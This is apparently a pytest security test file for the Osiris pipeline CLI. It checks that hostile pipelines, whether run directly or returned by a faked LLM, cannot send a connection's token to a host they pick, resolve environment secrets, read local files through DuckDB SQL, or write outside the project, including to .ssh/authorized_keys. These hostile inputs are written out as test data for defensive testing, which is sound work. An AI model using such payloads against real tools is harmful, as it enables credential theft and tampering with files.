"""The attacks of issue 22, each through the real CLI (in process, tests/inprocess.py): a hostile
pipeline given to `osiris run` and `osiris run --sample`, and the same pipeline as an LLM's answer
under `osiris generate --dry-run` against the fake Messages API. Each plants a unique secret, file
or cell, and asserts the exit code and the OML line, that the hostile server's log is empty, that
the planted files are untouched, and that nothing planted is in any request to the LLM, the output
or the session directory. Where validation stops an attack, the runtime's second lock is shown by
running the same pipeline on the engine directly (`run_pipeline`, validation skipped).

The boundary is docs/security.md; the rules are osiris/trust/. Every target is a file this test
planted under its own temporary directory.
"""

from __future__ import annotations

import json
import re
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from osiris.run.display import Listeners
from osiris.run.duckdb_run import RunOptions, RunResult, run_pipeline
from tests.api_fixtures import api, api_server, serving  # noqa: F401  (fixtures)
from tests.conftest import TEST_API_KEY
from tests.fake_anthropic import FakeAnthropic, Reply
from tests.inprocess import run_inprocess
from tests.sample_project import last_user_message
from tests.servers.http_apis import API_KEY, TOKEN, ApiServer
from tests.support import clean_env

OTHER = "other-Planted-5e1d9c70"  # an environment variable no connection names
LONG = "long-Planted-secret-0123456789abcdef"  # a connection secret longer than a preview cell
CONTENT = "planted-file-Contents-4d2a"  # a local file outside the project
CELL = "PLANTED-CELL-9f3b"  # a value in the project's data
REQUEST = "fetch the items into out/items.csv"


@pytest.fixture(scope="module")
def hostile() -> Iterator[ApiServer]:
    """A server the pipeline points at: it must never hear from Osiris."""
    yield from serving()


class Attack:
    """A project whose `.osiris.yaml` holds a rest connection with a bearer token from the environment,
    beside a folder `outside/` of planted files that no pipeline may reach."""

    def __init__(self, root: Path, fake_api: FakeAnthropic, api: ApiServer, **extra: Any) -> None:
        self.root, self.outside = root / "project", root / "outside"
        (self.root / "data").mkdir(parents=True)
        (self.outside / ".ssh").mkdir(parents=True)
        (self.outside / "environ").write_text(f"SECRET={CONTENT}\n")
        (self.outside / "victim.csv").write_text(f"id\n{CONTENT}\n")
        (self.outside / ".ssh" / "authorized_keys").write_text(f"ssh-ed25519 {CONTENT}\n")
        (self.root / "data" / "people.csv").write_text(f"id,name\n1,Ann\n2,{CELL}\n")
        self.settings: dict[str, Any] = {
            "llm": {"base_url": fake_api.url, "timeout_seconds": 10},
            "connections": {
                "rest": {"api": {"base_url": api.url, "auth_type": "bearer", "auth_token": "${API_TOKEN}"}},
                "postgres": {"unused": {"host": "127.0.0.1", "database": "d", "user": "u", "password": "${LONG_PW}"}},
            }, **extra}
        self.write_settings()
        self.env = clean_env(ANTHROPIC_API_KEY=TEST_API_KEY, API_TOKEN=TOKEN, OTHER_SECRET=OTHER, LONG_PW=LONG,
                             HOME=str(self.outside))
        self.fake_api = fake_api
        self.planted = sorted(p for p in self.outside.rglob("*") if p.is_file())
        self.before = {p: p.read_bytes() for p in self.planted}

    def write_settings(self) -> None:
        (self.root / ".osiris.yaml").write_text(yaml.safe_dump(self.settings, sort_keys=False))

    def pipeline(self, *steps: dict[str, Any], name: str = "attack") -> Path:
        path = self.root / f"{name}.yaml"
        path.write_text(oml(*steps))
        return path

    def osiris(self, *args: str) -> subprocess.CompletedProcess[str]:
        return run_inprocess(*args, cwd=self.root, env=self.env)

    def engine(self, *steps: dict[str, Any], sample: int | None = None, sample_dir: Path | None = None) -> RunResult:
        """The pipeline on the engine directly, as one that skipped validation would reach it."""
        options = RunOptions(connections=self.settings["connections"], env=self.env, base_dir=self.root,
                             sample=sample, sample_dir=sample_dir)
        return run_pipeline({"steps": list(steps)}, options, Listeners())

    def assert_nothing_leaked(self, *texts: str, hostile: ApiServer | None = None, previews: tuple[str, ...] = ()) -> None:
        """No planted value in `texts`, any file of the project's sessions, or any request to the LLM
        (`previews`, a terminal that shows the person sample rows, may show the project's own cell);
        the planted files as they were, and nothing new beside them; the hostile server never called."""
        sessions = [p for p in (self.root / ".osiris").rglob("*") if p.is_file()] if (self.root / ".osiris").exists() else []
        where = {**{f"output {n}": t for n, t in enumerate(texts)},
                 **{str(p): p.read_text(errors="replace") for p in sessions},
                 **{f"LLM request {n}": body for n, body in enumerate(self.fake_api.bodies)}}
        for planted in (TOKEN, OTHER, LONG, CONTENT, CELL, TOKEN[:12], LONG[:12]):
            seen = {**where, **{f"preview {n}": t for n, t in enumerate(previews) if planted != CELL}}
            assert [name for name, text in seen.items() if planted in text] == [], planted
        assert {p: p.read_bytes() for p in sorted(p for p in self.outside.rglob("*") if p.is_file())} == self.before
        if hostile is not None:
            assert hostile.requests == []


def oml(*steps: dict[str, Any]) -> str:
    return yaml.safe_dump({"oml_version": "0.1.0", "name": "attack", "steps": list(steps)}, sort_keys=False)


def answer(*steps: dict[str, Any]) -> Reply:
    return Reply(f"Here is the pipeline:\n\n```yaml\n{oml(*steps)}```\n")


def fetch(**config: Any) -> dict[str, Any]:
    return {"id": "fetch-items", "component": "rest.extractor", "mode": "read",
            "config": {"connection": "@rest.api", "endpoint": "/bearer", "data_path": "items", **config}}


def read_people() -> dict[str, Any]:
    return {"id": "read-people", "component": "filesystem.csv_extractor", "mode": "read",
            "config": {"path": "data/people.csv"}}


def transform(query: str, needs: str = "read-people") -> dict[str, Any]:
    return {"id": "shape", "component": "duckdb.processor", "mode": "transform", "needs": [needs],
            "config": {"query": query}}


def write(path: str = "out/items.csv", step_id: str = "write-items", needs: str | None = None) -> dict[str, Any]:
    step = {"id": step_id, "component": "filesystem.csv_writer", "mode": "write", "config": {"path": path}}
    return {**step, "needs": [needs]} if needs else step


def failure(result: RunResult) -> tuple[str, str, str]:
    [failed] = [s for s in result.steps if s.status == "failed"]
    assert failed.problem is not None
    return failed.problem.code, failed.problem.message, failed.problem.hint


@pytest.fixture
def attack(tmp_path: Path, fake_api: FakeAnthropic, api: ApiServer, hostile: ApiServer) -> Attack:
    hostile.reset()
    return Attack(tmp_path, fake_api, api)


OML314_BASE_URL = ("OML314 'base_url' says where @rest.api connects; a step may not change it, or the "
                   "connection's secrets would go where the pipeline points")


# 1. Credentials sent to a host the pipeline picks ---------------------------------------------------

def test_a_step_cannot_send_its_connections_token_to_a_server_it_picks(attack, api, hostile, fake_api):
    steal = fetch(base_url=hostile.url)
    path = attack.pipeline(steal, write())
    for sample in ([], ["--sample", "5"]):
        done = attack.osiris("run", str(path), *sample)
        assert done.returncode == 1, done.stderr
        assert OML314_BASE_URL in done.stderr
        assert ("    hint: remove 'base_url' from the step (the connection supplies it); to let steps choose it, add "
                "allow_override: [base_url] to connections.rest.api in .osiris.yaml") in done.stderr
    fake_api.add(answer(steal, write()), answer(fetch(), write()))

    done = attack.osiris("generate", REQUEST, "--dry-run")

    assert done.returncode == 0, done.stderr
    assert "OML314 /steps/0/config/base_url" in last_user_message(fake_api.requests[1])
    assert [r.headers["authorization"] for r in api.hits("/bearer")] == [f"Bearer {TOKEN}"]  # the fix, at its own API
    attack.assert_nothing_leaked(done.stdout, done.stderr, hostile=hostile)


def test_the_runtime_refuses_the_same_step_when_validation_was_skipped(attack, hostile):
    result = attack.engine(fetch(base_url=hostile.url))
    code, message, hint = failure(result)
    assert (code, message) == ("OML518", OML314_BASE_URL.removeprefix("OML314 "))
    attack.assert_nothing_leaked(message, hint, hostile=hostile)


def test_the_person_may_allow_a_step_to_move_a_connection(attack, hostile):
    """The test can fail: with allow_override the token does go where the step says."""
    attack.settings["connections"]["rest"]["api"]["allow_override"] = ["base_url"]
    attack.write_settings()
    done = attack.osiris("run", str(attack.pipeline(fetch(base_url=hostile.url), write())))
    assert done.returncode == 0, done.stderr
    assert [r.headers["authorization"] for r in hostile.hits("/bearer")] == [f"Bearer {TOKEN}"]


@pytest.fixture
def listener() -> Iterator[list[bytes]]:
    """A TCP server that records what connects to it (a database the pipeline points at)."""
    heard: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    heard.append(conn.recv(4096))
                except OSError:
                    heard.append(b"")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    heard.append(str(server.getsockname()[1]).encode())  # heard[0]: the port
    yield heard
    stop.set()
    thread.join()
    server.close()


def test_a_database_step_cannot_change_the_port_its_password_goes_to(attack, listener):
    port = int(listener[0])
    attack.settings["connections"]["postgres"]["default"] = {
        "host": "127.0.0.1", "port": 1, "database": "d", "user": "u", "password": "${LONG_PW}"}
    attack.write_settings()
    read = {"id": "read", "component": "postgres.extractor", "mode": "read",
            "config": {"connection": "@postgres.default", "table": "t", "port": port}}
    done = attack.osiris("run", str(attack.pipeline(read, write())))
    assert done.returncode == 1
    assert "OML314 'port' says where @postgres.default connects" in done.stderr
    code, message, _ = failure(attack.engine(read))
    assert (code, message.split(";")[0]) == ("OML518", "'port' says where @postgres.default connects")
    assert listener[1:] == []
    attack.assert_nothing_leaked(done.stdout, done.stderr, message)
    attack.settings["connections"]["postgres"]["default"]["allow_override"] = ["port"]  # the person's choice
    attack.write_settings()
    assert attack.osiris("run", str(attack.pipeline(read, write()))).returncode == 6
    assert len(listener) == 2  # the listener does hear a step it was allowed to send there


# 2. Any environment variable resolved into any step field ------------------------------------------

def test_a_reference_in_a_step_is_refused_and_never_resolved(attack, api, fake_api):
    sneaky = fetch(endpoint="/all?leak=${OTHER_SECRET}")
    done = attack.osiris("run", str(attack.pipeline(sneaky, write())))
    assert done.returncode == 1
    assert "OML316 endpoint holds a ${...} reference; a pipeline may not name environment variables" in done.stderr
    code, message, _ = failure(attack.engine(sneaky))
    assert (code, message) == ("OML518", "config.endpoint holds a ${...} reference, which a pipeline may not use: "
                                         "references are resolved in connections only, and this one was not")
    fake_api.add(answer(sneaky, write()), answer(fetch(), write()))
    generated = attack.osiris("generate", REQUEST, "--dry-run")
    assert generated.returncode == 0, generated.stderr
    assert "OML316 /steps/0/config/endpoint" in last_user_message(fake_api.requests[1])
    assert [r.path for r in api.requests] == ["/bearer"]  # only the fixed pipeline's sample read
    attack.assert_nothing_leaked(done.stderr, generated.stdout, generated.stderr, message)


def test_a_reference_nested_in_a_connection_is_resolved(attack, api):
    attack.settings["connections"]["rest"]["keyed"] = {"base_url": api.url, "headers": {"X-API-Key": "${KEY_VAR}"}}
    attack.write_settings()
    attack.env["KEY_VAR"] = API_KEY
    step = {"id": "fetch-items", "component": "rest.extractor", "mode": "read",
            "config": {"connection": "@rest.keyed", "endpoint": "/apikey", "data_path": "items"}}
    done = attack.osiris("run", str(attack.pipeline(step, write())))
    assert done.returncode == 0, done.stderr
    assert [r.headers["x-api-key"] for r in api.hits("/apikey")] == [API_KEY]  # it was sent literally before
    assert len((attack.root / "out" / "items.csv").read_text().splitlines()) == 24
    sessions = "".join(p.read_text() for p in (attack.root / ".osiris").rglob("*") if p.is_file())
    assert API_KEY not in sessions + done.stdout + done.stderr


# 3. A transform reads any local file, and the contents reach the LLM --------------------------------

@pytest.mark.parametrize("query, said", [
    ("SELECT CAST(content AS INTEGER) AS n FROM read_text('{outside}/environ')", "calls read_text, which reads files"),
    ("SELECT * FROM read_csv('{outside}/victim.csv')", "calls read_csv, which reads files"),
    ("SELECT * FROM glob('{outside}/*')", "calls glob, which reads files"),
    ("SELECT * FROM read_blob('{outside}/environ')", "calls read_blob, which reads files"),
    ("SELECT * FROM '{outside}/victim.csv'", "reads the file '{outside}/victim.csv'"),
])
def test_a_transform_cannot_read_a_local_file(attack, query, said):
    query, said = query.format(outside=attack.outside), said.format(outside=attack.outside)
    done = attack.osiris("run", str(attack.pipeline(read_people(), transform(query), write(needs="shape"))))
    assert done.returncode == 1
    assert f"OML408 the query {said}" in done.stderr
    code, message, hint = failure(attack.engine(read_people(), transform(query)))
    assert code == "OML518" and message == f"the SQL reached outside its inputs, and the DuckDB engine's list refused it: the query {said}"
    assert hint.startswith("read the file with a filesystem.csv_extractor step")
    attack.assert_nothing_leaked(done.stdout, done.stderr, message)


def test_a_file_reading_answer_is_refused_and_its_contents_never_reach_the_llm(attack, fake_api):
    reading = transform(f"SELECT CAST(content AS INTEGER) AS n FROM read_text('{attack.outside}/environ')")
    fake_api.add(answer(read_people(), reading, write(needs="shape")),
                 answer(read_people(), transform("SELECT id FROM input_df"), write(needs="shape")))
    done = attack.osiris("generate", REQUEST, "--dry-run")
    assert done.returncode == 0, done.stderr
    assert "OML408 /steps/1/config/query: the query calls read_text, which reads files" in \
        last_user_message(fake_api.requests[1])
    attack.assert_nothing_leaked(done.stdout, previews=(done.stderr,))


def test_the_network_is_out_of_reach_of_sql(attack, hostile):
    code, _, _ = failure(attack.engine(read_people(), transform(f"SELECT * FROM '{hostile.url}/all.csv'")))
    assert code == "OML518"
    assert hostile.requests == []  # no download, no extension fetched


def test_a_value_that_does_not_convert_is_told_by_column_and_type_never_by_value(attack, fake_api):
    casting = transform("SELECT CAST(name AS INTEGER) AS n FROM input_df")
    done = attack.osiris("run", str(attack.pipeline(read_people(), casting, write(needs="shape"))))
    assert done.returncode == 6
    assert ("OML504 step 'shape': a value does not fit its column's type: column 'name' holds a value that does "
            "not convert to INTEGER; the value is withheld") in done.stderr
    fake_api.add(answer(read_people(), casting, write(needs="shape")),
                 answer(read_people(), transform("SELECT id FROM input_df"), write(needs="shape")))
    generated = attack.osiris("generate", REQUEST, "--dry-run")
    assert generated.returncode == 0, generated.stderr
    retry = last_user_message(fake_api.requests[1])
    assert "column 'name' holds a value that does not convert to INTEGER" in retry
    attempt = next((attack.root / ".osiris" / "sessions").glob("*/artifacts/cycle-1/attempt-1"))
    assert {"dry_run.json", "errors.json", "prompt.txt"} <= {p.name for p in attempt.iterdir()}
    attack.assert_nothing_leaked(done.stdout, done.stderr, generated.stdout, previews=(generated.stderr,))


def test_a_missing_file_hint_never_lists_a_folder_outside(attack):
    (attack.root / "lnk").symlink_to(attack.outside)
    done = attack.osiris("run", str(attack.pipeline(read_people() | {"config": {"path": "lnk/missing.csv"}})))
    assert done.returncode == 6
    assert "OML517 step 'read-people': path 'lnk/missing.csv' leads out of the project through a symbolic link" \
        in done.stderr
    code, message, hint = failure(attack.engine(read_people() | {"config": {"path": "../outside/missing.csv"}}))
    assert code == "OML517"
    assert "victim" not in done.stderr + message + hint


# 4. Writes anywhere ----------------------------------------------------------------------------------

@pytest.mark.parametrize("target, why", [
    ("../outside/victim.csv", "goes up with '..'"),
    ("{outside}/victim.csv", "is an absolute path"),
    ("~/victim.csv", "starts with ~ (a home folder, outside the project)"),
    (".osiris.yaml", "names Osiris's own settings file"),
    (".osiris/sessions/x.csv", "names Osiris's own folder"),
])
def test_a_writer_cannot_write_outside_the_project(attack, target, why):
    target = target.format(outside=attack.outside)
    settings = (attack.root / ".osiris.yaml").read_bytes()
    for sample in ([], ["--sample", "2"]):
        done = attack.osiris("run", str(attack.pipeline(read_people(), write(target))), *sample)
        assert done.returncode == 1
        assert f"OML317 path '{target}' {why}: files stay inside the project" in done.stderr
    code, message, _ = failure(attack.engine(read_people(), write(target)))
    assert (code, message) == ("OML517", f"path '{target}' {why}: files stay inside the project")
    assert (attack.root / ".osiris.yaml").read_bytes() == settings
    attack.assert_nothing_leaked(done.stdout, done.stderr)


@pytest.mark.parametrize("target, why", [
    ("attack.yaml", "is one of Osiris's own files (settings, sessions, the pipeline)"),
    ("components/x.csv", "is one of Osiris's own files (settings, sessions, the pipeline)"),
    ("out/victim.csv", "leads out of the project through a symbolic link"),
])
def test_the_real_path_is_checked_at_run_time(attack, target, why):
    (attack.root / "components").mkdir()
    (attack.root / "out").symlink_to(attack.outside)
    path = attack.pipeline(read_people(), write(target))
    pipeline = path.read_bytes()
    for sample in ([], ["--sample", "2"]):
        done = attack.osiris("run", str(path), *sample)
        assert done.returncode == 6, done.stderr
        assert f"OML517 step 'write-items': path '{target}' {why}: files stay inside the project" in done.stderr
    assert path.read_bytes() == pipeline and not (attack.root / "components" / "x.csv").exists()
    attack.assert_nothing_leaked(done.stderr, previews=(done.stdout,))


def test_a_writing_answer_is_refused_and_the_target_untouched(attack, fake_api):
    fake_api.add(answer(read_people(), write("../outside/victim.csv")), answer(read_people(), write()))
    done = attack.osiris("generate", REQUEST, "--dry-run")
    assert done.returncode == 0, done.stderr
    assert "OML317 /steps/1/config/path" in last_user_message(fake_api.requests[1])
    assert not (attack.root / "out").exists()  # the fix was tested on samples: nothing kept
    attack.assert_nothing_leaked(done.stdout, previews=(done.stderr,))


def test_a_sample_write_goes_under_the_session_with_a_safe_name_whatever_the_step_id(attack):
    kept = attack.root / ".osiris" / "sessions" / "s1"
    hostile_id = f"{attack.outside}/.ssh"
    result = attack.engine(read_people(), write("authorized_keys", step_id=hostile_id), sample=2, sample_dir=kept)
    assert [s.status for s in result.steps] == ["ok", "ok"]
    safe = re.sub(r"[^A-Za-z0-9_-]+", "_", hostile_id).strip("_")
    assert sorted(p.relative_to(kept).as_posix() for p in kept.rglob("*") if p.is_file()) == [
        f"sample-output/{safe}/authorized_keys"]
    assert (kept / "sample-output" / safe / "authorized_keys").read_text() == "id,name\n1,Ann\n2," + CELL + "\n"
    result = attack.engine(read_people(), write("../../x/.bashrc", step_id="../../w"), sample=2)
    assert [s.status for s in result.steps] == ["ok", "failed"]  # the real target is checked on samples too
    assert failure(result)[0] == "OML517"
    assert {p: p.read_bytes() for p in attack.planted} == attack.before
    assert sorted(p.name for p in attack.outside.iterdir()) == [".ssh", "environ", "victim.csv"]


# 5. Partial secrets, and sample output that outlives its run ------------------------------------------

def test_the_sample_preview_masks_secrets_before_it_cuts_them(attack):
    (attack.root / "data" / "notes.csv").write_text(f"id,note\n1,{LONG}\n2,plain\n")
    read = read_people() | {"config": {"path": "data/notes.csv"}}
    done = attack.osiris("run", str(attack.pipeline(read)), "--sample", "2")
    assert done.returncode == 0, done.stderr
    assert [line.rstrip() for line in done.stdout.splitlines()[2:5]] == ["  id  note", "  1   ***", "  2   plain"]
    attack.assert_nothing_leaked(done.stdout, done.stderr)


def test_a_sample_runs_csv_output_is_kept_only_when_the_settings_say_so(attack):
    path = attack.pipeline(read_people(), write())
    done = attack.osiris("run", str(path), "--sample", "2")
    assert done.returncode == 0, done.stderr
    assert "sample output: the files written were not kept (sessions.save_samples: false)\n" in done.stderr
    assert not [p for p in (attack.root / ".osiris").rglob("*.csv")] and not (attack.root / "out").exists()
    assert not list((attack.root / ".osiris" / "tmp").iterdir())  # the scratch directory went with the run


# settings ---------------------------------------------------------------------------------------------

def test_a_bad_allow_override_is_a_settings_error(attack):
    attack.settings["connections"]["rest"]["api"]["allow_override"] = {"base_url": True}
    attack.write_settings()
    done = attack.osiris("run", str(attack.pipeline(fetch(), write())))
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == (f"osiris: error: {attack.root / '.osiris.yaml'}: connections.rest.api.allow_override = "
                           '{"base_url": true} is not allowed; it must be a list of the connection\'s field names '
                           "that a step may set, e.g. [base_url]\n")


def test_session_files_hold_no_planted_value_after_every_attack_above(attack):
    """The scan itself can fail: a session holding the token is found."""
    session = attack.root / ".osiris" / "sessions" / "x"
    session.mkdir(parents=True)
    (session / "events.jsonl").write_text(json.dumps({"token": TOKEN}))
    with pytest.raises(AssertionError):
        attack.assert_nothing_leaked()
